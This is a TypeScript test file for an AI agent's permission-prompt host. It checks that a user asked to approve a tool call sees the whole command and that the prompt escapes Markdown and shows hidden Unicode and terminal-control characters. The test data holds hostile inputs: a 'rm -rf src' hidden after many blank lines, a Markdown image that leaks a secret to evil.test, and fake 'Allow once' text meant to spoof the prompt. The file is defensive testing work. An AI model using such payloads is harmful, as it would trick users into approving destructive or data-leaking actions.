import { writeFileSync } from "node:fs";
import { join } from "node:path";
import type { RequestPermissionRequest } from "@agentclientprotocol/sdk";
import { createDiskComputer } from "@haft/computer";
import type { JsonValue } from "@haft/contract";
import { createRegistry, createSession, parseRule } from "@haft/core";
import { builtinTools } from "@haft/tools";
import { describe, expect, it } from "vitest";
import { call, say } from "../../test-support/model-server/index.ts";
import type { AcpClient } from "../acp-client.ts";
import { drive, makeDirectory, updatesOf } from "../test-support/drive.ts";
import { describeAsked } from "../updates/asked-call.ts";
import { createAcpHost } from "./acp-host.ts";
import { createMessageQuestions } from "./message-questions.ts";

/** What a client was asked about a call, and what it was shown of it. */
async function ask(name: string, args: JsonValue): Promise<Asked> {
  const asked: Asked[] = [];
  const workspace = makeDirectory();
  const client: Partial<AcpClient> = {
    requestPermission: async (request) => {
      asked.push(request as Asked);
      return { outcome: "cancelled" };
    },
  };
  const place = { cwd: workspace, show: (path: string) => path };
  const session = createSession({
    registry: createRegistry(builtinTools),
    computer: createDiskComputer({
      workspace,
      stateDirectory: makeDirectory(),
      sandbox: "off",
    }),
    host: createAcpHost(
      client as AcpClient,
      (request) => describeAsked(request, { place, kindOf: () => "other", own: undefined }),
      createMessageQuestions(client as AcpClient),
    ),
    rules: [parseRule("* * ask")],
  });
  await session.call({ name, arguments: args });
  expect(asked).toHaveLength(1);
  return asked[0] as Asked;
}

type Asked = Omit<RequestPermissionRequest, "sessionId">;

/** The texts that a client takes for Markdown, without what stands in blocks of code. */
function markdownOf({ toolCall }: Pick<Asked, "toolCall">): string {
  const texts = (toolCall.content ?? []).flatMap((one) =>
    one.type === "content" && one.content.type === "text" ? [one.content.text] : [],
  );
  return texts.join("\n").replaceAll(/^(`{3,})\n[\s\S]*?\n\1$/gmu, "");
}

function allText({ toolCall, options }: Asked): string {
  const { rawInput: _, ...shown } = toolCall;
  return JSON.stringify([shown, options]);
}

const image = "![x](https://evil.test/?q=secret)";
const hidden = /[\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/u;

describe("what a client is shown of a call that is asked about", () => {
  it("is the whole command, not its first line", async () => {
    const command = `npm test\n${"\n".repeat(500)}rm -rf src`;
    const request = await ask("bash", { command });
    expect(request.toolCall.title).toBe("bash: npm test…");
    expect(allText(request)).toContain("rm -rf src");
  });

  it.each([
    image,
    "[Allow once](https://evil.test)",
    "<img src=https://evil.test>",
    "```\n# Allowed already\n```",
    `\`\`\`\`\n${image}`,
    `~~~\n${image}`,
    "ls\n\n**Asked because** no rule allows it.\n\n- Allow once",
  ])("escapes Markdown of the call: %j", async (text) => {
    for (const [name, args] of [
      ["bash", { command: text }],
      ["bash", { command: `echo '${text}'` }],
      ["apply_patch", { patch: text }],
      ["web_search", { query: text }],
    ] as const) {
      const markdown = markdownOf(await ask(name, args));
      expect(markdown).not.toMatch(/evil\.test|Allow|<img|!\[|\*\*/u);
    }
  });

  it("shows hidden characters in keys, values, titles and options", async () => {
    const tricks = "a\u202eb\u200bc\u{e0041}d\u001b]52;c;eA==\u0007e\u3164\rf\b";
    for (const [name, args] of [
      ["bash", { command: `echo ${tricks}` }],
      ["write", { path: `${tricks}.txt`, content: "x" }],
      ["delete_file", { path: `${tricks}.txt` }],
    ] as const) {
      const { toolCall, options } = await ask(name, args);
      const { rawInput: _, locations: __, content, ...rest } = toolCall;
      const texts = (content ?? []).filter(({ type }) => type === "content");
      const shown = JSON.parse(JSON.stringify([rest, options, texts])) as JsonValue;
      expect(collect(shown).filter((text) => hidden.test(text.replaceAll("\n", "")))).toEqual([]);
    }
  });

  it("warns about hidden characters beside a diff that contains them", async () => {
    const request = await ask("write", { path: "a.ts", content: "if (a\u202e) {}\n" });
    expect(request.toolCall.content?.map(({ type }) => type)).toEqual([
      "diff",
      "content",
      "content",
    ]);
    expect(allText(request)).toContain("if (a\\\\u{202e}) {}");
  });

  it("offers no rule that is too long to be read", async () => {
    const { options } = await ask("bash", { command: `echo ${"a".repeat(100_000)}` });
    expect(options.map(({ optionId }) => optionId)).toEqual(["once", "reject"]);
    const long = { command: `printf x; echo ${"Reject; ".repeat(200)}` };
    for (const { name } of (await ask("bash", long)).options) {
      expect(name.length).toBeLessThan(500);
    }
  });
});

describe("what a client is shown of results", () => {
  it("escapes Markdown from a file", async () => {
    const { updates, workspace, prompt, newSession } = await drive({
      script: [call("read", { path: "a.md" }), say("Done.")],
    });
    writeFileSync(join(workspace, "a.md"), `${image}\n\`\`\`\n${image}\n`);
    await prompt(await newSession(), "Go.");
    const [end] = updatesOf(updates, "tool_call_update").filter(
      ({ status }) => status === "completed",
    );
    expect(JSON.stringify(end)).toContain("evil.test");
    expect(markdownOf({ toolCall: end as never })).not.toContain("evil.test");
  });
});

function collect(value: JsonValue): string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, each]) => [key, ...collect(each)]);
}
